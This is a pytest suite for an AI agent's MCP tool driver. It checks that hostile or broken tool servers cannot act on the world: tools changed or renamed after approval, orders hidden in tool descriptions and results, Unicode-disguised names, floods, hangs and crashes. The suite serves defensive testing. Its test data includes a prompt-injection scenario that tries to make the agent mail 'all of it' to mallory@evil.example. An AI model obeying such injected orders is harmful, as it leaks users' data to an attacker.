"""Servers that mean harm, or are broken: no effect of theirs reaches the world, and the session goes on."""

from __future__ import annotations

import pytest

from edgeagent.core.events import ToolFailed, ToolReturned
from edgeagent.driver.mcp import pipe
from edgeagent.errors import ConfigError
from edgeagent.policy.labels import Labels, egress, party, text
from edgeagent.policy.origin_guard import values_from_user
from edgeagent.policy.rules import never, tainted
from tests.driver.mcp.conftest import a_call

pytestmark = pytest.mark.long

LOOK, MAIL = a_call("odd_look_up", text="tide"), a_call("send_mail", to="mallory@evil.example", text="all of it")
LABELS = Labels({"send_mail": egress(to=party, text=text)})


def failures(events):
    return [event.message for event in events if isinstance(event, ToolFailed)]


def values(events):
    return [event.value for event in events if isinstance(event, ToolReturned)]


def test_a_tool_that_has_changed_since_it_was_approved_is_not_called(case):
    odd = case("changes")
    assert odd.approve() == 1
    odd.calls_file.touch()
    events = odd.run(LOOK, "It could not be looked up.")
    assert "declares it otherwise than it was approved" in failures(events)[0]
    assert (odd.calls, odd.door.said) == ([], ["It could not be looked up."])


def test_what_has_changed_is_shown_and_asked_about_again(case):
    odd = case("changes")
    odd.approve()
    odd.calls_file.touch()
    looked = odd.look()
    assert [row.stands for row in looked.rows] == ["changed"]
    assert looked.is_open and "sends it on" in looked.rows[0].about


def test_a_tool_that_was_renamed_is_another_tool(case):
    odd = case("renames")
    odd.approve()
    odd.calls_file.touch()
    assert [(row.name, row.stands) for row in odd.look().rows] == [("look_up2", "new")]
    assert "does not offer it any more" in failures(odd.run(LOOK, "No."))[0]


def test_a_tool_that_is_added_later_is_not_there_though_a_pattern_lists_it(case):
    odd = case("adds")
    odd.approve()
    odd.calls_file.touch()
    session = odd.open("Hello.")
    assert session.agent.tool_names == ("send_mail", "odd/look_up")
    session.close()


def test_a_server_that_says_its_tools_have_changed_is_asked_before_the_next_call(case):
    odd = case("says it has changed")
    odd.approve()
    events = odd.run(LOOK, "A word.", a_call("odd_look_up", text="ebb"), "No.", words=("Look up tide.", "And ebb?"))
    assert values(events) == ['"tide is a word"']
    assert "otherwise than it was approved" in failures(events)[0]
    assert odd.calls == ['look_up {"text": "tide"}']


@pytest.mark.parametrize("rule", [values_from_user(LABELS), never("send_mail", when=tainted("turn"))])
def test_an_order_in_a_description_leads_to_nothing(case, rule):
    odd = case("hides an order")
    odd.approve()
    events = odd.run(MAIL, "I did not send it.", words=("What does tide mean?",), policies=(rule,))
    assert odd.sent == []
    assert odd.door.said == ["I did not send it."]
    assert not values(events)


def test_an_order_in_a_description_is_not_heard_once_the_operator_describes_the_tool(case):
    odd = case("hides an order", about={"look_up": "Look a word up in the dictionary."})
    odd.approve()
    session = odd.open("Hello.")
    tool = session.agent.by_name["odd/look_up"]
    session.close()
    assert (tool.description, tool.outsiders) == ("Look a word up in the dictionary.", False)


@pytest.mark.parametrize("rule", [values_from_user(LABELS), never("send_mail", when=tainted("turn"))])
def test_an_order_in_a_result_leads_to_nothing(case, rule):
    odd = case("gives orders", about={"look_up": "Look a word up."})
    odd.approve()
    odd.run(LOOK, MAIL, "I did not send it.", policies=(rule,))
    assert (len(odd.calls), odd.sent, odd.door.said) == (1, [], ["I did not send it."])


def test_an_answer_of_50_MB_is_not_held_and_the_next_one_is_read(case):
    odd = case("answers 50 MB")
    odd.approve()
    events = odd.run(LOOK, "Too long.", a_call("odd_look_up", text="little"), "Good.", words=("Tide?", "Little?"))
    assert "cannot be read: it is longer than" in failures(events)[0]
    assert values(events) == ['"little is a word"']
    assert odd.door.said == ["Too long.", "Good."]


def test_a_call_that_is_never_answered_is_unknown_and_not_made_again(case):
    odd = case("never answers", timeout_s=0.5)
    odd.approve()
    events = odd.run(LOOK, "No answer.", LOOK, "Still none.", words=("Tide?", "Again!"))
    assert "what it did is unknown: it did not answer within 0.5 s" in failures(events)[0]
    assert "not sent again" in failures(events)[1]
    assert (len(odd.calls), odd.door.said) == (1, ["No answer.", "Still none."])


def test_what_only_reads_and_may_be_repeated_is_asked_again_of_a_server_started_anew(case):
    odd = case("never answers", timeout_s=0.5, idempotent=True)
    odd.approve()
    events = odd.run(LOOK, "No answer.", LOOK, "Still none.", words=("Tide?", "Again!"))
    assert len(failures(events)) == len(odd.calls) == 2
    assert any("answered nothing any more" in note for event in events for note in getattr(event, "notes", ()))


def test_a_flood_ends_the_server_and_not_the_session(case):
    odd = case("floods")
    odd.approve()
    events = odd.run(LOOK, "It floods.", "Hello again.", words=("Tide?", "Hello!"))
    assert "it wrote without end, and was ended" in failures(events)[0]
    assert odd.door.said == ["It floods.", "Hello again."]


def test_text_on_the_line_is_skipped_and_recorded(case):
    odd = case("prints")
    odd.approve()
    events = odd.run(LOOK, "It is a word.")
    assert values(events) == ['"tide is a word"']
    notes = [note for event in events for note in getattr(event, "notes", ())]
    assert any("Loading the dictionary" in note for note in notes)


def test_a_death_in_mid_call_is_unknown_and_the_server_is_started_again(case):
    odd = case("dies")
    odd.approve()
    again = a_call("odd_look_up", text="again")
    events = odd.run(LOOK, "It died.", LOOK, "No.", again, "Yes.", words=("Tide?", "Once more!", "Again?"))
    assert "what it did is unknown: it has ended with exit code 3" in failures(events)[0]
    assert "not sent again" in failures(events)[1]
    assert odd.calls == ['look_up {"text": "tide"}', 'look_up {"text": "again"}']
    assert values(events) == ['"again is a word"']


def test_an_answer_to_another_request_is_nobodys(case):
    odd = case("claims another id")
    odd.approve()
    assert values(odd.run(LOOK, "Done.")) == ['"the truth about tide"']


def test_names_that_hide_something_are_never_offered_and_shown_escaped(case):
    odd = case("turns names round")
    looked = odd.look()
    shown = {row.name: row.stands for row in looked.rows}
    assert shown["look_up"] == "new"
    assert shown["look\\u202epu"] == shown["löök"] == shown["a" * 200] == "unfit"
    assert odd.approve() == 1
    session = odd.open("Hello.")
    assert session.agent.tool_names == ("send_mail", "odd/look_up")
    session.close()


def test_a_description_in_disguise_is_shown_and_told_escaped(case):
    odd = case("describes in disguise")
    assert odd.look().rows[0].about.startswith("Looks \\u202eup\\u200b.")
    odd.approve()
    session = odd.open("Hello.")
    assert session.agent.by_name["odd/look_up"].description == "Looks \\u202eup\\u200b."
    session.close()


def test_a_schema_that_needs_another_document_is_not_offered(case):
    row = case("wants what is strange").look().rows[0]
    assert row.stands == "unfit" and "evil.example" in row.why


@pytest.mark.parametrize(
    ("behaviour", "why"),
    [
        ("does not start", "ended with exit code 2 .*No module named 'dictionary'"),
        ("speaks another version", "it speaks version 1999-01-01"),
        ("lists without end", "more than 100 pages"),
        ("offers twice", "two things under one name"),
    ],
)
def test_a_server_that_cannot_be_used_says_why(case, behaviour, why):
    with pytest.raises(ConfigError, match=why):
        case(behaviour).look()


def test_a_server_that_asks_for_a_model_or_the_user_is_refused(case):
    for behaviour, said in (("asks for a model", '"refused with -32601"'), ("asks the user", '"it said decline"')):
        odd = case(behaviour)
        odd.approve()
        assert values(odd.run(LOOK, "Done.")) == [said]


@pytest.mark.parametrize("behaviour", ["leaves a child", "does not end"])
def test_a_server_that_does_not_end_is_ended_with_the_session(case, monkeypatch, behaviour):
    monkeypatch.setattr(pipe, "ENDING_S", 0.05)
    odd = case(behaviour)
    odd.approve()
    assert values(odd.run(LOOK, "Done.")) == ['"tide is a word"']
